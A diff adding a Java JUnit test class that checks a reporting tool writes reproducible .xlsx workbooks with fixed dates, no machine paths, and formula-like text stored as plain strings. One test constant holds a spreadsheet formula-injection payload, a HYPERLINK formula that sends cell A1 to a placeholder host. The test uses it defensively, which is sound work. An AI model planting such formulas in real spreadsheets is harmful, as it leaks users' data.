@@ -1,0 +1,157 @@
+package org.framelab.report;
+
+import org.apache.poi.ss.usermodel.CellType;
+import org.apache.poi.xssf.usermodel.XSSFWorkbook;
+import org.framelab.report.ReportData.EvidenceRow;
+import org.framelab.report.ReportData.OverviewEntry;
+import org.framelab.report.tables.FeatureTableFiles;
+import org.framelab.report.tables.StableXlsx;
+import org.framelab.util.Progress;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import java.io.ByteArrayOutputStream;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Instant;
+import java.time.LocalDateTime;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipInputStream;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+/** Reproducible workbooks: same bytes on every write, no machine paths or user names, text never a formula. */
+class StableWorkbookTest {
+    static final String FORMULA = "=HYPERLINK(\"http://x?leak=\"&A1,\"click\")";
+
+    @Test
+    void twoWritesGiveIdenticalBytes(@TempDir Path dir) throws Exception {
+        ReportData d = ReportFixtures.sample(null, true);
+        Path a = dir.resolve("a.xlsx");
+        Path b = dir.resolve("b.xlsx");
+        Workbook.write(d, a, Progress.NONE);
+        Thread.sleep(2100); // a clock would show: zip times have 2-second steps, document dates 1-second steps
+        Workbook.write(d, b, Progress.NONE);
+        assertThat(Files.readAllBytes(b)).isEqualTo(Files.readAllBytes(a));
+    }
+
+    @Test
+    void featureTableXlsxIsByteIdenticalToo(@TempDir Path dir) throws Exception {
+        var t = ReportFixtures.table(30, 5, 7);
+        FeatureTableFiles.write(dir.resolve("a.xlsx"), t, List.of());
+        Thread.sleep(2100);
+        FeatureTableFiles.write(dir.resolve("b.xlsx"), t, List.of());
+        assertThat(Files.readAllBytes(dir.resolve("b.xlsx"))).isEqualTo(Files.readAllBytes(dir.resolve("a.xlsx")));
+        assertThat(entries(dir.resolve("a.xlsx")).get("docProps/core.xml")).contains("2000-01-01T00:00:00Z");
+    }
+
+    @Test
+    void documentDateIsSourceDateEpochWhenSet() {
+        assertThat(StableXlsx.documentDate(Map.of("SOURCE_DATE_EPOCH", "1700000000")::get))
+                .isEqualTo(Instant.ofEpochSecond(1_700_000_000L));
+        assertThat(StableXlsx.documentDate(Map.<String, String>of()::get)).isEqualTo(StableXlsx.DEFAULT_DATE);
+        assertThatThrownBy(() -> StableXlsx.documentDate(Map.of("SOURCE_DATE_EPOCH", "yesterday")::get))
+                .hasMessageContaining("SOURCE_DATE_EPOCH");
+    }
+
+    @Test
+    void propertiesCarryTheGivenDateAndNoUser(@TempDir Path dir) throws Exception {
+        Path x = dir.resolve("r.xlsx");
+        Instant date = Instant.parse("2023-11-14T22:13:20Z");
+        Workbook.write(ReportFixtures.sample(null, false), x, Progress.NONE, date);
+        try (XSSFWorkbook wb = new XSSFWorkbook(x.toFile())) {
+            var core = wb.getProperties().getCoreProperties();
+            assertThat(core.getCreated().toInstant()).isEqualTo(date);
+            assertThat(core.getModified().toInstant()).isEqualTo(date);
+            assertThat(core.getCreator()).isEqualTo("FrameLab");
+            assertThat(core.getLastModifiedByUser()).isNull();
+        }
+        String core = entries(x).get("docProps/core.xml");
+        assertThat(core).doesNotContain(System.getProperty("user.name"));
+    }
+
+    @Test
+    void zipEntriesHaveAFixedTimeAndOrder(@TempDir Path dir) throws Exception {
+        Path x = dir.resolve("r.xlsx");
+        Workbook.write(ReportFixtures.sample(null, true), x, Progress.NONE);
+        List<String> names = new ArrayList<>();
+        try (ZipInputStream z = new ZipInputStream(Files.newInputStream(x))) {
+            for (ZipEntry e; (e = z.getNextEntry()) != null; ) {
+                names.add(e.getName());
+                assertThat(e.getTimeLocal()).as(e.getName()).isEqualTo(LocalDateTime.of(1980, 1, 1, 0, 0));
+                assertThat(e.getExtra()).as(e.getName()).isNull();
+            }
+        }
+        assertThat(names.get(0)).isEqualTo("[Content_Types].xml");
+        assertThat(names.subList(1, names.size())).isSorted();
+    }
+
+    @Test
+    void workbookKeepsRelativePathsAndNoMachinePaths(@TempDir Path dir) throws Exception {
+        ReportData base = ReportFixtures.sample(null, true);
+        List<OverviewEntry> ov = new ArrayList<>(base.overview());
+        ov.add(new OverviewEntry("Corpus", "input file", "datasets/demo/articles.jsonl"));
+        Path x = dir.resolve("r.xlsx");
+        Workbook.write(with(base, ov, base.evidence()), x, Progress.NONE);
+        String all = String.join("\n", entries(x).values());
+        assertThat(all).contains("datasets/demo/articles.jsonl");
+        for (String abs : List.of(System.getProperty("user.dir"), dir.toAbsolutePath().toString(),
+                System.getProperty("java.io.tmpdir"), System.getProperty("user.home"))) {
+            assertThat(all).doesNotContain(abs);
+        }
+    }
+
+    @Test
+    void textThatLooksLikeAFormulaIsAStringCell(@TempDir Path dir) throws Exception {
+        ReportData base = ReportFixtures.sample(null, false);
+        List<EvidenceRow> ev = List.of(new EvidenceRow("f", "hedge", "a1", "@group", 1, 2, FORMULA, "-context"));
+        Path x = dir.resolve("r.xlsx");
+        Workbook.write(with(base, base.overview(), ev), x, Progress.NONE);
+        try (XSSFWorkbook wb = new XSSFWorkbook(x.toFile())) {
+            var row = wb.getSheet("Evidence").getRow(1);
+            assertThat(row.getCell(6).getCellType()).isEqualTo(CellType.STRING);
+            assertThat(row.getCell(6).getStringCellValue()).isEqualTo(FORMULA);
+            assertThat(row.getCell(3).getCellType()).isEqualTo(CellType.STRING);
+        }
+        assertThat(entries(x).get("xl/worksheets/sheet4.xml")).doesNotContain("<f>");
+    }
+
+    @Test
+    void openpyxlFindsTheDefaultStyle(@TempDir Path dir) throws Exception {
+        Path x = dir.resolve("r.xlsx");
+        Workbook.write(ReportFixtures.sample(null, true), x, Progress.NONE);
+        Path y = dir.resolve("t.xlsx");
+        FeatureTableFiles.write(y, ReportFixtures.table(5, 3, 1), List.of());
+        String py = ExternalTools.python("openpyxl");
+        String script = "import sys, warnings, openpyxl\nwarnings.simplefilter('always')\n"
+                + "with warnings.catch_warnings(record=True) as w:\n"
+                + "    for f in sys.argv[1:]: openpyxl.load_workbook(f)\n"
+                + "print('WARNINGS', [str(x.message) for x in w])\n";
+        ExternalTools.Result r = ExternalTools.run(dir, 120, py, "-c", script, x.toString(), y.toString());
+        assertThat(r.code()).as(r.output()).isZero();
+        assertThat(r.output()).contains("WARNINGS []");
+    }
+
+    static ReportData with(ReportData b, List<OverviewEntry> ov, List<EvidenceRow> ev) {
+        return new ReportData(b.study(), ov, b.table(), b.columns(), b.groups(), b.tests(), b.terms(), ev, b.monthly(),
+                b.model(), b.agreement(), b.charts(), b.nativeCharts());
+    }
+
+    /** Every zip entry of an .xlsx as text. */
+    static Map<String, String> entries(Path xlsx) throws Exception {
+        Map<String, String> out = new java.util.LinkedHashMap<>();
+        try (ZipInputStream z = new ZipInputStream(Files.newInputStream(xlsx))) {
+            for (ZipEntry e; (e = z.getNextEntry()) != null; ) {
+                ByteArrayOutputStream b = new ByteArrayOutputStream();
+                z.transferTo(b);
+                out.put(e.getName(), b.toString(StandardCharsets.UTF_8));
+            }
+        }
+        return out;
+    }
+}
